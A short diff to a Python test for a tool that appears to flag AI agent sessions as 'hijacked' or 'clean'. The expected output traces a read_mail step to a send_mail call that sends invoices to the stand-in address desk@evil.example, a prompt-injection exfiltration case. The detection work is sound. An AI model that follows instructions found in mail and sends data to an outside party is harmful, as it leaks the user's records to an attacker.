@@ -58,7 +58,7 @@ def test_a_person_reads_from_what_to_what_it_went(floor: Any, sessions: Path) ->
     first, chain, second = floor("analyze", "sessions", str(sessions)).out.splitlines()
     assert first.startswith("hijacked")
     assert "message 2 (read_mail)" in chain
-    assert "-> message 3, call of send_mail desk@evil.example" in chain
+    assert "-> message 3, send_mail(to=desk@evil.example, body=invoices)" in chain
     assert second.startswith("clean")
 
 
